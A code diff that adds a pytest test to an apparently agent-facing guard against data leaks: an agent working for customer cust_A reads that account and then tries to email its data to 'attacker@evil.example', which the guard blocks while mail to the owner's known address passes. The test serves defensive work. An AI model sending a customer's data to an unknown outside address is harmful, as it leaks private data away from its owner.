@@ -295,3 +295,21 @@ def test_an_owner_id_that_is_an_email_address_is_stored_hashed(world: Any) -> No
         )
     assert "rotterdam" not in str(caught.value) and owner in str(caught.value)
     assert sent == []
+
+
+def test_a_recipient_the_resolver_does_not_know_gets_no_owned_data_even_with_a_subject(
+    tmp_path: Path, clock: ManualClock
+) -> None:
+    # The subject says whom the work is for (cust_A), not who receives it: an outside
+    # address the resolver does not know must not receive cust_A's data on its strength.
+    guard, sent = _guard(tmp_path, clock)
+    with guard:
+        agent = guard.agent("bot", subject="cust_A")
+        agent.call("read_account", customer_id="cust_A")
+        with pytest.raises(ContentBlocked) as caught:
+            agent.call("send_email", to="attacker@evil.example", body=f"FYI: the client is {A_PASSAGE}.")
+        assert caught.value.code == "leaks.other_owner"
+        assert sent == []
+        # the same data to the owner's own known address still goes out
+        agent.call("send_email", to="ana@rotterdam-shipping.nl", body=f"FYI: the client is {A_PASSAGE}.")
+        assert [to for to, _ in sent] == ["ana@rotterdam-shipping.nl"]
